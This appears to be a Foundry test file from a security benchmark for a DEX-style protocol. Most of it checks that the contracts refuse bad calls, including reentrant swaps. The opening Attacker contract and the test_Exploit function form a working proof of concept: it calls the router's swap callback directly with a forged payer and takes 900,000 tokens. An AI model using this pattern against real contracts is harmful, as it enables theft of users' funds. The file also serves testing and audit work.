// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-3a71a22d-8b3a-4569-81eb-5d57136d8a16
import "../Base.sol";
import {IERC721Errors} from "@openzeppelin/contracts@5.4.0/interfaces/draft-IERC6093.sol";
import {Math} from "@openzeppelin/contracts@5.4.0/utils/math/Math.sol";
import {ReentrancyGuard} from "@openzeppelin/contracts@5.4.0/utils/ReentrancyGuard.sol";
import {ICollector} from "../../src/interfaces/ICollector.sol";
import {Edges} from "../../src/libraries/Edges.sol";
import {Observations} from "../../src/libraries/Observations.sol";

contract Attacker {
    function run(Router router, address usd, address grain, address payer) external {
        IRouter.Hop[] memory hops = new IRouter.Hop[](1);
        hops[0] = IRouter.Hop(usd, grain, 3_000);
        try router.onSwap(-1, 900_000e18, abi.encode(Router.Step(hops, 0, payer, false))) {} catch {}
    }
}

/// Pays what it was told to pay of both tokens.
contract Payer is IMintCaller {
    bool private immutable _first;
    bool private immutable _second;

    constructor(bool first, bool second) {
        (_first, _second) = (first, second);
    }

    function onMint(uint256 amount0, uint256 amount1, bytes calldata) external {
        if (_first) IERC20(IPool(msg.sender).token0()).transfer(msg.sender, amount0);
        if (_second && IERC20(IPool(msg.sender).token1()).balanceOf(address(this)) > 0) {
            IERC20(IPool(msg.sender).token1()).transfer(msg.sender, amount1);
        }
    }
}

/// A token that makes a call whenever it is sent by somebody else, and keeps something.
contract Echo is ERC20("Echo", "ECHO"), Minted {
    address private _where;
    bytes private _call;
    uint256 private _kept;

    function repeat(IERC20 token, address where, bytes calldata call) external {
        token.approve(where, type(uint256).max);
        (_where, _call) = (where, call);
    }

    function keep(uint256 kept) external {
        _kept = kept;
    }

    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        if (_where != address(0)) {
            (bool done, bytes memory why) = _where.call(_call);
            if (!done) {
                assembly ("memory-safe") {
                    revert(add(why, 32), mload(why))
                }
            }
        }
        return super.transferFrom(from, to, amount - _kept);
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
    }

    // --- refusals ---

    function test_RefusesStrangers() public {
        governed(address(factory), abi.encodeCall(factory.addTier, (200, 1)));
        governed(address(factory), abi.encodeCall(factory.setShare, (address(main), 5)));
        governed(address(factory), abi.encodeCall(factory.setCollector, (CEE)));
        governed(address(factory), abi.encodeCall(Governed.offer, (CEE)));
        governed(address(ref), abi.encodeCall(ref.setPool, (address(grain), 500)));
        governed(address(ref), abi.encodeCall(ref.setFeed, (address(grain), feed, 1, 1)));
        governed(address(collector), abi.encodeCall(collector.spend, (address(grain), 1, CEE)));
        governed(
            address(collector),
            abi.encodeCall(collector.sponsor, (IFarm(farm), address(grain), address(main), block.timestamp, block.timestamp + 1, 1))
        );
        refused(CEE, address(factory), abi.encodeCall(Governed.accept, ()), Governed.NotOffered.selector);
        address at = address(main);
        refused(CEE, at, abi.encodeCall(main.setShare, (5)), IPool.NotFactory.selector);
        refused(CEE, at, abi.encodeCall(main.initialize, (at, at, 1, 1, uint160(1 << 96))), IPool.NotFactory.selector);
        refused(CEE, at, abi.encodeCall(main.collectProtocol, (CEE)), IPool.NotCollector.selector);
    }

    function test_RefusesTiers() public {
        address at = address(factory);
        bytes4 bad = IPoolFactory.BadTier.selector;
        refused(address(council), at, abi.encodeCall(factory.addTier, (50_001, 1)), bad);
        refused(address(council), at, abi.encodeCall(factory.addTier, (200, 0)), bad);
        refused(address(council), at, abi.encodeCall(factory.addTier, (200, 501)), bad);
        refused(address(council), at, abi.encodeCall(factory.addTier, (500, 10)), IPoolFactory.KnownTier.selector);
        refused(address(council), at, abi.encodeCall(factory.setShare, (CEE, 4)), IPoolFactory.UnknownPool.selector);
        for (uint8 share = 1; share < 4; share++) {
            refused(address(council), at, abi.encodeCall(factory.setShare, (address(main), share)), IPoolFactory.BadShare.selector);
        }
    }

    function test_RefusesPools() public {
        address at = address(factory);
        (address a, address b, uint160 one) = (address(grain), address(usd), uint160(1 << 96));
        refused(CEE, at, abi.encodeCall(factory.make, (a, a, 500, one)), IPoolFactory.SameTokens.selector);
        refused(CEE, at, abi.encodeCall(factory.make, (a, address(0), 500, one)), IPoolFactory.NoToken.selector);
        refused(CEE, at, abi.encodeCall(factory.make, (a, b, 501, one)), IPoolFactory.UnknownTier.selector);
        refused(CEE, at, abi.encodeCall(factory.make, (b, a, 500, one)), IPoolFactory.KnownPool.selector);
        refused(CEE, at, abi.encodeCall(factory.make, (a, b, 10_000, Grid.priceAt(-40_000))), IPool.BadLimit.selector);
        refused(CEE, at, abi.encodeCall(factory.make, (a, b, 10_000, Grid.priceAt(40_000))), IPool.BadLimit.selector);
    }

    function test_RefusesCouncils() public {
        address at = address(council);
        bytes memory call = abi.encodeCall(factory.addTier, (500, 1));
        refused(CEE, at, abi.encodeCall(council.approve, (address(factory), call, 1)), Council.NotMember.selector);
        vm.prank(MIA);
        bytes32 id = council.approve(address(factory), call, 1);
        refused(MIA, at, abi.encodeCall(council.approve, (address(factory), call, 1)), Council.AlreadyApproved.selector);
        refused(NED, at, abi.encodeCall(council.revoke, (id)), Council.NotApproved.selector);
        refused(CEE, at, abi.encodeCall(council.revoke, (id)), Council.NotMember.selector);
        refused(CEE, at, abi.encodeCall(council.execute, (address(factory), call, 1)), Council.NotReady.selector);
        vm.prank(NED);
        council.approve(address(factory), call, 1);
        refused(CEE, at, abi.encodeCall(council.execute, (address(factory), call, 1)), Council.NotReady.selector);
        vm.warp(block.timestamp + 2 days);
        refused(CEE, at, abi.encodeCall(council.execute, (address(factory), call, 1)), Council.CallFailed.selector);
        call = abi.encodeCall(factory.addTier, (200, 2));
        vm.prank(OLE);
        id = council.approve(address(factory), call, 3);
        vm.prank(NED);
        council.approve(address(factory), call, 3);
        vm.prank(NED);
        council.revoke(id);
        vm.warp(block.timestamp + 2 days);
        refused(CEE, at, abi.encodeCall(council.execute, (address(factory), call, 3)), Council.NotReady.selector);
        vm.prank(NED);
        council.approve(address(factory), call, 3);
        vm.warp(block.timestamp + 2 days);
        council.execute(address(factory), call, 3);
        refused(CEE, at, abi.encodeCall(council.execute, (address(factory), call, 3)), Council.AlreadyDone.selector);
        refused(MIA, at, abi.encodeCall(council.replace, (MIA, CEE)), Council.NotCouncil.selector);
        refused(at, at, abi.encodeCall(council.replace, (CEE, BO)), Council.NotMember.selector);
        refused(at, at, abi.encodeCall(council.replace, (MIA, NED)), Council.AlreadyMember.selector);
        address[] memory members = new address[](2);
        members[0] = members[1] = MIA;
        bytes memory start = abi.encodeCall(this.found, (members, 1));
        refused(CEE, address(this), start, Council.AlreadyMember.selector);
        members[1] = NED;
        refused(CEE, address(this), abi.encodeCall(this.found, (members, 0)), Council.BadCouncil.selector);
        refused(CEE, address(this), abi.encodeCall(this.found, (members, 3)), Council.BadCouncil.selector);
    }

    function found(address[] calldata members, uint256 threshold) external {
        new Council(members, threshold);
    }

    function test_RefusesPrices() public {
        address at = address(ref);
        refused(address(council), at, abi.encodeCall(ref.setPool, (address(grain), 10_000)), IReference.NoPool.selector);
        refused(address(council), at, abi.encodeCall(ref.setFeed, (address(grain), feed, 1, 10_000)), IReference.BadFeed.selector);
        refused(CEE, at, abi.encodeCall(ref.worth, (address(usd), 1)), IReference.NoPool.selector);
        feed.tell(1e18, block.timestamp - 1 days - 1);
        refused(CEE, at, abi.encodeCall(ref.worth, (address(peat), 1)), IReference.OldAnswer.selector);
        feed.tell(1.1e18, block.timestamp);
        refused(CEE, at, abi.encodeCall(ref.worth, (address(peat), 1)), IReference.TooFarApart.selector);
        address[] memory pools = new address[](1);
        pools[0] = CEE;
        at = address(collector);
        refused(CEE, at, abi.encodeCall(collector.gather, (pools)), ICollector.NotAPool.selector);
        bytes memory call = abi.encodeCall(collector.buy, (address(grain), 100e18, 90e18, CEE));
        refused(CEE, at, call, ICollector.TooExpensive.selector);
        pools[0] = factory.make(address(peat), address(grain), 500, uint160(1 << 96));
        refused(CEE, pools[0], abi.encodeCall(main.stepsUntil, (1)), Observations.TooLongAgo.selector);
    }

    /// Nobody pays less than the mean price, or more than two steps above it.
    function test_RefusesCheapSales() public {
        sell(CEE, address(usd), address(peat), 10_000, 100e18);
        vm.warp(block.timestamp + 1 hours);
        feed.tell(1e18, block.timestamp);
        (uint256 a, uint256 b, uint256 one) = (main.slot().price, far.slot().price, 1 << 96);
        require(a != Grid.priceAt(main.slot().step) && b != Grid.priceAt(far.slot().step), "between steps");
        fair(ref.worth(address(grain), 1e24), Math.mulDiv(Math.mulDiv(1e24, a, one), a, one));
        fair(ref.worth(address(peat), 1e24), Math.mulDiv(Math.mulDiv(1e24, one, b), one, b));
    }

    function fair(uint256 worth, uint256 price) private pure {
        require(worth >= price && worth <= price + price / 490, "too little or too much");
    }

    /// What happened before a pause is not spread over it.
    function test_RefusesToSpread() public {
        vm.warp(block.timestamp + 1 hours);
        main.record();
        vm.warp(block.timestamp + 1 hours);
        int24 step = main.slot().step;
        vm.startPrank(CEE);
        router.upTo(IRouter.Hop(address(grain), address(usd), 3_000), 500_000e18, 1, Grid.priceAt(step - 1_000), CEE, block.timestamp);
        vm.warp(block.timestamp + 30);
        router.upTo(IRouter.Hop(address(usd), address(grain), 3_000), 500_000e18, 1, Grid.priceAt(step) + 1, CEE, block.timestamp);
        vm.stopPrank();
        require(main.slot().step == step, "and back");
        vm.warp(block.timestamp + 1 hours);
        main.record();
        vm.warp(block.timestamp + 10 minutes);
        require(ref.meanStep(address(main)) == step, "spread");
    }

    /// The ring reaches back for half an hour, whoever records how often.
    function test_RefusesToForget() public {
        for (uint256 i = 0; i < 70; i++) {
            vm.warp(block.timestamp + 1);
            main.record();
            vm.warp(block.timestamp + 60);
            main.record();
        }
        ref.meanStep(address(main));
    }

    function test_RefusesAmounts() public {
        address at = address(main);
        bytes4 bad = IPool.BadAmount.selector;
        uint128 much = uint128(type(int128).max) + 1;
        uint160 one = uint160(1 << 96);
        refused(CEE, at, abi.encodeCall(main.mint, (CEE, -10, 10, 0, "")), bad);
        refused(CEE, at, abi.encodeCall(main.mint, (CEE, -10, 10, much, "")), bad);
        refused(CEE, at, abi.encodeCall(main.burn, (-10, 10, much)), bad);
        refused(CEE, at, abi.encodeCall(main.swap, (CEE, true, 0, one / 2, "")), bad);
        refused(CEE, at, abi.encodeCall(main.swap, (CEE, true, int256(uint256(much)), one / 2, "")), bad);
        refused(CEE, at, abi.encodeCall(main.swap, (CEE, true, -int256(uint256(much)), one / 2, "")), bad);
        bad = IPool.BadLimit.selector;
        refused(CEE, at, abi.encodeCall(main.swap, (CEE, true, 1, one * 2, "")), bad);
        refused(CEE, at, abi.encodeCall(main.swap, (CEE, false, 1, one / 2, "")), bad);
        refused(CEE, at, abi.encodeCall(main.swap, (CEE, true, 1, Grid.priceAt(-40_000), "")), bad);
        refused(CEE, at, abi.encodeCall(main.swap, (CEE, false, 1, Grid.priceAt(40_000), "")), bad);
        bad = IPool.BadRange.selector;
        refused(CEE, at, abi.encodeCall(main.mint, (CEE, 10, 10, 1e18, "")), bad);
        refused(CEE, at, abi.encodeCall(main.mint, (CEE, -15, 10, 1e18, "")), bad);
        refused(CEE, at, abi.encodeCall(main.mint, (CEE, -10, 15, 1e18, "")), bad);
        refused(CEE, at, abi.encodeCall(main.mint, (CEE, -40_010, 10, 1e18, "")), bad);
        refused(CEE, at, abi.encodeCall(main.mint, (CEE, -10, 40_010, 1e18, "")), bad);
        bad = IPool.NoLiquidity.selector;
        refused(CEE, at, abi.encodeCall(main.burn, (-10, 10, 0)), bad);
        refused(CEE, at, abi.encodeCall(main.burn, (-10, 10, 1)), bad);
        address empty = factory.make(address(peat), address(grain), 500, uint160(1 << 96));
        refused(CEE, empty, abi.encodeCall(main.flash, (CEE, 0, 0, "")), bad);
        uint128 most = MAX / 80_001;
        refused(CEE, at, abi.encodeCall(main.mint, (CEE, 10, 20, most + 1, "")), Edges.EdgeFull.selector);
        refused(address(new Payer(false, true)), at, abi.encodeCall(main.mint, (CEE, -10, 10, 1e18, "")), IPool.NotPaid.selector);
        Payer payer = new Payer(true, false);
        grain.mint(address(payer), 1e18);
        refused(address(payer), at, abi.encodeCall(main.mint, (CEE, -10, 10, 1e18, "")), IPool.NotPaid.selector);
        payer = new Payer(false, true);
        usd.mint(address(payer), 1e18);
        refused(address(payer), at, abi.encodeCall(main.mint, (CEE, -10, 10, 1e18, "")), IPool.NotPaid.selector);
    }

    function test_RefusesNotes() public {
        address at = address(notes);
        INotes.Request memory r = request(main, -10, 10, 100e18, CEE);
        r.deadline = block.timestamp - 1;
        because(CEE, at, abi.encodeCall(notes.mint, (r)), "Notes: too late");
        r.deadline = block.timestamp;
        r.pool = CEE;
        because(CEE, at, abi.encodeCall(notes.mint, (r)), "Notes: not a pool");
        (r.pool, r.lower, r.upper) = (address(main), 10, 10);
        because(CEE, at, abi.encodeCall(notes.mint, (r)), "Notes: bad range");
        (r.lower, r.upper) = (-40_010, 10);
        refused(CEE, at, abi.encodeCall(notes.mint, (r)), Grid.OutsideOfGrid.selector);
        (r.lower, r.upper) = (-10, 40_010);
        refused(CEE, at, abi.encodeCall(notes.mint, (r)), Grid.OutsideOfGrid.selector);
        (r.lower, r.upper, r.least0) = (-10, 10, 101e18);
        because(CEE, at, abi.encodeCall(notes.mint, (r)), "Notes: too little");
        (r.least0, r.least1) = (0, 101e18);
        because(CEE, at, abi.encodeCall(notes.mint, (r)), "Notes: too little");
        uint256 late = block.timestamp - 1;
        because(CEE, at, abi.encodeCall(notes.increase, (2, 1e18, 1e18, 0, 0, late)), "Notes: too late");
        refused(CEE, at, abi.encodeCall(notes.increase, (99, 1e18, 1e18, 0, 0, block.timestamp)), IERC721Errors.ERC721NonexistentToken.selector);
        bytes4 stranger = IERC721Errors.ERC721InsufficientApproval.selector;
        refused(CEE, at, abi.encodeCall(notes.decrease, (2, 1e18, 0, 0, block.timestamp)), stranger);
        refused(CEE, at, abi.encodeCall(notes.collect, (2, CEE, 1, 1)), stranger);
        refused(CEE, at, abi.encodeCall(notes.burn, (2)), stranger);
        because(BO, at, abi.encodeCall(notes.decrease, (2, 1e18, 0, 0, late)), "Notes: too late");
        because(BO, at, abi.encodeCall(notes.decrease, (2, MAX, 0, 0, block.timestamp)), "Notes: too much");
        because(BO, at, abi.encodeCall(notes.decrease, (2, 1e18, 1e18, 0, block.timestamp)), "Notes: too little");
        because(BO, at, abi.encodeCall(notes.decrease, (2, 1e18, 0, 1e18, block.timestamp)), "Notes: too little");
        because(BO, at, abi.encodeCall(notes.burn, (2)), "Notes: not empty");
        uint128 whole = notes.noteOf(2).liquidity;
        vm.startPrank(BO);
        notes.decrease(2, whole, 0, 0, block.timestamp);
        notes.collect(2, BO, 0, MAX);
        vm.stopPrank();
        because(BO, at, abi.encodeCall(notes.burn, (2)), "Notes: not empty");
        vm.startPrank(DEE);
        farm.unstake(3);
        notes.decrease(3, notes.noteOf(3).liquidity, 0, 0, block.timestamp);
        notes.collect(3, DEE, MAX, 0);
        vm.stopPrank();
        because(DEE, at, abi.encodeCall(notes.burn, (3)), "Notes: not empty");
        because(CEE, at, abi.encodeCall(notes.onMint, (1, 1, abi.encode(ANA))), "Notes: not a pool");
    }

    function test_RefusesPermits() public {
        address at = address(notes);
        uint256 until = block.timestamp;
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(BO_KEY, digest(CEE, 2, until));
        bytes memory signature = abi.encodePacked(r, s, v);
        because(CEE, at, abi.encodeCall(notes.permit, (DEE, 2, until, signature)), "Notes: bad signature");
        because(CEE, at, abi.encodeCall(notes.permit, (CEE, 1, until, signature)), "Notes: bad signature");
        because(CEE, at, abi.encodeCall(notes.permit, (CEE, 2, until + 1, signature)), "Notes: bad signature");
        vm.prank(BO);
        notes.transferFrom(BO, DEE, 2);
        because(CEE, at, abi.encodeCall(notes.permit, (CEE, 2, until, signature)), "Notes: bad signature");
        vm.prank(DEE);
        notes.transferFrom(DEE, BO, 2);
        because(CEE, at, abi.encodeCall(notes.permit, (CEE, 2, until, signature)), "Notes: bad signature");
        vm.warp(until + 1);
        because(CEE, at, abi.encodeCall(notes.permit, (CEE, 2, until, signature)), "Notes: too late");
        refused(CEE, at, abi.encodeCall(notes.permit, (CEE, 99, until + 1, signature)), IERC721Errors.ERC721NonexistentToken.selector);
    }

    function test_RefusesSwaps() public {
        address at = address(router);
        uint256 now_ = block.timestamp;
        IRouter.Hop[] memory h = hop(address(grain), address(usd), 3_000);
        refused(CEE, at, abi.encodeCall(router.exactIn, (h, 1e18, 1e18, CEE, now_)), IRouter.TooLittle.selector);
        refused(CEE, at, abi.encodeCall(router.exactOut, (h, 1e18, 1e18 - 1, CEE, now_)), IRouter.TooMuch.selector);
        refused(CEE, at, abi.encodeCall(router.upTo, (h[0], 1e18, 1e18, 1, CEE, now_)), IPool.BadLimit.selector);
        refused(CEE, at, abi.encodeCall(router.upTo, (h[0], 1e18, 1e18, Grid.priceAt(-500), CEE, now_)), IRouter.TooLittle.selector);
        refused(CEE, at, abi.encodeCall(router.exactIn, (h, 1e18, 0, CEE, now_ - 1)), IRouter.TooLate.selector);
        h[0].fee = 10_000;
        refused(CEE, at, abi.encodeCall(router.exactIn, (h, 1e18, 0, CEE, now_)), IRouter.NoSuchPool.selector);
        factory.make(address(grain), address(usd), 10_000, uint160(1 << 96));
        refused(CEE, at, abi.encodeCall(router.exactIn, (h, 1e18, 0, CEE, now_)), IRouter.Unfilled.selector);
        refused(CEE, at, abi.encodeCall(router.exactOut, (h, 1e18, 1e18, CEE, now_)), IRouter.Unfilled.selector);
        refused(CEE, at, abi.encodeCall(router.exactIn, (new IRouter.Hop[](0), 0, 0, CEE, now_)), IRouter.NoHops.selector);
        h = two(address(grain), 3_000, address(usd), 3_000, address(grain));
        h[1].tokenIn = address(peat);
        refused(CEE, at, abi.encodeCall(router.exactIn, (h, 1e18, 0, CEE, now_)), IRouter.NotConnected.selector);
        refused(CEE, address(lens), abi.encodeCall(lens.quote, (address(main), true, 0)), Lens.NotQuoted.selector);
    }

    function test_RefusesSwapsInSwaps() public {
        Echo echo = new Echo();
        echo.mint(CEE, 1_000e18);
        uint256 now_ = block.timestamp;
        factory.make(address(echo), address(usd), 500, uint160(1 << 96));
        vm.startPrank(CEE);
        echo.approve(address(notes), ALL);
        echo.approve(address(router), ALL);
        usd.approve(address(notes), ALL);
        notes.mint(request(IPool(factory.poolOf(address(echo), address(usd), 500)), -100, 100, 100e18, CEE));
        vm.stopPrank();
        IRouter.Hop[] memory h = hop(address(echo), address(usd), 500);
        IRouter.Hop[] memory other_ = hop(address(grain), address(usd), 3_000);
        grain.mint(address(echo), 10e18);
        bytes memory small = abi.encodeCall(router.upTo, (other_[0], 1e18, 0, 0, CEE, now_));
        bytes4 again = ReentrancyGuard.ReentrancyGuardReentrantCall.selector;
        echo.repeat(grain, address(router), small);
        refused(CEE, address(router), abi.encodeCall(router.exactIn, (h, 1e18, 0, CEE, now_)), again);
        refused(CEE, address(router), abi.encodeCall(router.exactOut, (h, 1e18, 2e18, CEE, now_)), again);
        echo.repeat(grain, address(router), abi.encodeCall(router.exactIn, (other_, 1e18, 0, CEE, now_)));
        refused(CEE, address(router), abi.encodeCall(router.upTo, (h[0], 1e18, 0, 0, CEE, now_)), again);
    }

    function test_RefusesPrograms() public {
        address at = address(farm);
        (address a, address b, uint256 now_) = (address(peat), address(main), block.timestamp);
        because(SAL, at, abi.encodeCall(farm.create, (a, CEE, now_, now_ + 1, 1)), "create: not a pool");
        because(SAL, at, abi.encodeCall(farm.create, (a, b, now_ - 1, now_ + 1, 1)), "create: bad start");
        because(SAL, at, abi.encodeCall(farm.create, (a, b, now_ + 31 days, now_ + 32 days, 1)), "create: bad start");
        because(SAL, at, abi.encodeCall(farm.create, (a, b, now_, now_, 1)), "create: bad end");
        because(SAL, at, abi.encodeCall(farm.create, (a, b, now_, now_ + 731 days, 1)), "create: bad end");
        because(SAL, at, abi.encodeCall(farm.create, (a, b, now_, now_ + 1, 0)), "create: no reward");
        Echo echo = new Echo();
        echo.mint(SAL, 10);
        vm.prank(SAL);
        echo.approve(at, 10);
        echo.keep(1);
        because(SAL, at, abi.encodeCall(farm.create, (address(echo), b, now_, now_ + 1, 10)), "create: not paid");
        because(SAL, at, abi.encodeCall(farm.close, (program)), "close: not over");
        vm.warp(now_ + 30 days);
        because(SAL, at, abi.encodeCall(farm.close, (program)), "close: notes are staked");
    }

    function test_RefusesStakes() public {
        address at = address(farm);
        because(CEE, at, abi.encodeCall(farm.unstake, (2)), "unstake: not staked");
        because(CEE, at, abi.encodeCall(farm.unstake, (3)), "unstake: not the owner");
        because(CEE, at, abi.encodeCall(farm.collectFees, (2)), "collect: not staked");
        because(CEE, at, abi.encodeCall(farm.onERC721Received, (CEE, CEE, 3, abi.encode(program))), "stake: not a note");
        uint256 now_ = block.timestamp;
        vm.prank(SAL);
        uint256 later = farm.create(address(peat), address(main), now_ + 1, now_ + 2, 1);
        unstakeable(ANA, 1, later, "stake: not now");
        unstakeable(ANA, 5, program, "stake: other pool");
        vm.startPrank(BO);
        notes.decrease(2, notes.noteOf(2).liquidity, 0, 0, now_);
        vm.stopPrank();
        unstakeable(BO, 2, program, "stake: no liquidity");
        vm.warp(now_ + 30 days);
        unstakeable(ANA, 1, program, "stake: not now");
    }

    function unstakeable(address who, uint256 id, uint256 program_, string memory why) private {
        bytes4 safe = bytes4(keccak256("safeTransferFrom(address,address,uint256,bytes)"));
        because(who, address(notes), abi.encodeWithSelector(safe, who, address(farm), id, abi.encode(program_)), why);
    }

    /// Requires that a call is refused for this reason.
    function refused(address who, address where, bytes memory call, bytes4 reason) private {
        vm.prank(who);
        (bool done, bytes memory why) = where.call(call);
        require(!done && bytes4(why) == reason, "not refused, or for another reason");
    }

    function because(address who, address where, bytes memory call, string memory reason) private {
        vm.prank(who);
        (bool done, bytes memory why) = where.call(call);
        bytes memory expected = abi.encodeWithSignature("Error(string)", reason);
        require(!done && keccak256(why) == keccak256(expected), "not refused, or with other words");
    }

    function governed(address where, bytes memory call) private {
        refused(CEE, where, call, Governed.NotGovernor.selector);
    }

    function exploit() public {
        other.run(router, address(usd), address(grain), CEE);
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 900_000e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(router);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
